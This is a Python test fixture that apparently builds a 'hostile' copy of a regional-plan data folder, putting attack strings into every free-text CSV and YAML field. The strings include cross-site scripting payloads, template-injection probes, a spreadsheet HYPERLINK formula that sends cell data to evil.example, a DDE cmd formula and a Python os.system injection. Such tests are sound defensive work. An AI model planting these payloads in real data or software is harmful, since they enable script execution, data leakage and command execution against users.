"""A plan folder whose every free text tries something: a page, a notebook, a spreadsheet or a terminal."""

import csv
import shutil
from pathlib import Path

from lnregions.paths import data_dir

EVIL = """<script>alert(1)</script>"'><img src=x onerror=alert(1)>{{7*7}}${7*7}</title></script><!--"""
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MARKDOWN = "[click](javascript:alert(1)) ![x](http://evil.example/x.png) `code` # head"
CODE = '"""+__import__(\'os\').system(\'touch /tmp/owned\')+"""\'\\'
TEXTS = (EVIL, FORMULA, MARKDOWN, CODE, "$x^2$ \\alpha {braces} %s %(x)s", "@SUM(1+1)*cmd|' /C calc'!A0")
FREE = {
    "regions.csv": ("name_zh", "name_en", "short_zh", "short_en", "nickname", "nickname_zh"),
    "positioning.csv": ("text_zh", "text_en"),
    "membership.csv": ("note", "note_zh"),
    "targets.csv": ("label_zh", "label_en", "wording_zh", "clause_en", "note_zh", "note_en"),
}


def write_hostile_plan(folder: Path, *, texts=TEXTS) -> Path:
    """A copy of the shipped plan with those texts, in turn, for every free text of its tables and facts."""
    shutil.copytree(data_dir() / "plans" / "ln-2022", folder)
    turn = 0
    for name, columns in FREE.items():
        with (folder / name).open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        for row in rows:
            for column in columns:
                row[column], turn = texts[turn % len(texts)], turn + 1
        with (folder / name).open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, rows[0], lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
    quoted = [text.replace("'", "''") for text in texts]
    lines = (folder / "plan.yaml").read_text(encoding="utf-8").splitlines()
    for n, line in enumerate(lines):
        key = line.strip(" -").split(":")[0]
        if key in (
            "title_zh",
            "title_en",
            "short_zh",
            "short_en",
            "number",
            "issuer_zh",
            "issuer_en",
            "title",
            "publisher",
        ):
            lines[n] = line.split(":")[0] + f": '{quoted[n % len(quoted)]}'"
    (folder / "plan.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder
